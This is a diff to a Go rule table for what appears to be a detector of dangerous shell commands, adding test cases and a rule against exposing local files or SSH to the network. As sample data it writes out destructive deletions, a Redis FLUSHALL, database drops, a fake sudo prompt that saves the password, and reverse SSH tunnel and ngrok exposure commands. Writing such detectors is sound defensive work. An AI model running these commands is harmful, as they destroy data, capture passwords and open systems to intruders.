@@ -228,6 +228,7 @@ var rules = []*rule{
 			"rm -f /tmp/app.pid",
 			"rm -r ~/tmp/cache",
 			"rm -rf \"$TMPDIR/build-42\"",
+			"rm -rf \"${BUILD_DIR:?}/\"",
 		},
 		check: checkRm,
 	},
@@ -575,6 +576,7 @@ var rules = []*rule{
 			"dropdb analytics",
 			"sqlite3 app.db 'DELETE FROM sessions;'",
 			"psql <<< 'drop schema public cascade'",
+			"echo FLUSHALL | redis-cli -h cache.internal",
 		},
 		MustNot: []string{
 			"psql -c 'SELECT count(*) FROM users'",
@@ -730,6 +732,18 @@ var rules = []*rule{
 		Must:    []string{`read -sp "[sudo] password for $USER: " pw; echo "$pw" >> /tmp/.p`},
 		MustNot: []string{`read -p "Continue? [y/N] " ans`, `read -r line < VERSION`},
 		check:   checkFakePrompt,
+	},
+	{
+		ID: "expose-local", Class: "exfiltration", Sev: high,
+		Msg: "exposes local files or a login port to the network",
+		Must: []string{
+			"python3 -m http.server 8080 --directory /",
+			"php -S 0.0.0.0:8000 -t ~",
+			"ngrok tcp 22",
+			"ssh -N -R 2222:localhost:22 relay@192.0.2.150",
+		},
+		MustNot: []string{"python3 -m http.server 8000", "ngrok http 3000", "ssh -L 5432:localhost:5432 db-bastion"},
+		check:   checkExpose,
 	},
 	{
 		ID: "interp-download-exec", Class: "download and execute", Sev: critical,
